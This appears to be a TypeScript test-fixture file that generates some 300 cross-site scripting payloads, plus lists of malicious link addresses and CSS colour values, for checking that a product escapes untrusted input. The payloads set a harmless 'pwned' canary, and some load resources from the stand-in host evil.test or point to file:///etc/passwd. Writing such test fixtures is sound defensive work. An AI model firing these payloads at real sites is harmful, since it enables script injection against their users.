/** The global variable that an executed payload sets. Nothing in the product has this name. */
export const canary = "pwned";

/** Markup that executes by itself. */
const vectors = [
  "<script>pwned=1</script>",
  "<script src=//evil.test/x.js></script>",
  "<script>pwned=1//",
  "<img src=x onerror=pwned=1>",
  "<img/src='x'/onerror=pwned=1>",
  "<svg onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><animate onbegin=pwned=1 attributeName=x>",
  "<math><mtext><img src=x onerror=pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'>",
  "<iframe src=javascript:parent.pwned=1>",
  "<body onload=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<video><source onerror=pwned=1>",
  "<audio src=x onerror=pwned=1>",
  "<input autofocus onfocus=pwned=1>",
  "<select autofocus onfocus=pwned=1>",
  "<textarea autofocus onfocus=pwned=1>",
  "<marquee onstart=pwned=1>",
  "<object data=javascript:pwned=1>",
  "<embed src=javascript:pwned=1>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<style>*{background:url(//evil.test)}</style>",
  "<base href=//evil.test/>",
  "<meta http-equiv=refresh content=0;url=//evil.test>",
  "<a href=javascript:pwned=1 autofocus>x</a>",
  "<form action=javascript:pwned=1><input type=submit>",
  "<template><script>pwned=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
  "{{constructor.constructor('pwned=1')()}}",
];

/** Prefixes that break out of the text's context: an attribute, an element, a comment, a string in a script. */
const breakouts = [
  "",
  '">',
  "'>",
  "</script>",
  "</style></title></textarea>",
  "--><!--",
  "]]>",
  '"]);pwned=1//',
  '\\"-pwned=1//\u2028',
  "</ScRiPt	>",
];

/** Three hundred texts that execute wherever escaping is missing. */
export const markupPayloads = breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector));

/** Addresses that no link may have. */
export const addressPayloads = [
  "javascript:pwned=1",
  "JaVaScRiPt:pwned=1",
  " javascript:pwned=1",
  "\tjavascript:pwned=1",
  "java\nscript:pwned=1",
  "java\tscript:pwned=1",
  "\u0001javascript:pwned=1",
  "javascript\t:pwned=1",
  "javascript://example.com/%0apwned=1",
  "javascript&colon;pwned=1",
  "&#106;avascript:pwned=1",
  "data:text/html,<script>pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
  "vbscript:pwned=1",
  "blob:https://example.com/1",
  "file:///etc/passwd",
  "view-source:javascript:pwned=1",
  "about:blank",
  "mailto:x@example.com",
  "//evil.test",
  "/user/events",
  "feed:javascript:pwned=1",
  "intent://x#Intent;scheme=javascript;end",
];

/** Texts that are no '#rrggbb', and would break out of a stylesheet or an attribute. */
export const colourPayloads = [
  "red",
  "#fff",
  "#ffffff;",
  "#ffffff}",
  "#ffffff\n",
  "#gggggg",
  "#fffffff",
  "ffffff",
  "url(//evil.test)",
  "#ffffff;background:url(//evil.test)",
  "expression(pwned=1)",
  "var(--x)",
  "#ffffff</style><script>pwned=1</script>",
  '#ffffff"onload=pwned=1 x="',
  "rgb(0,0,0)",
];
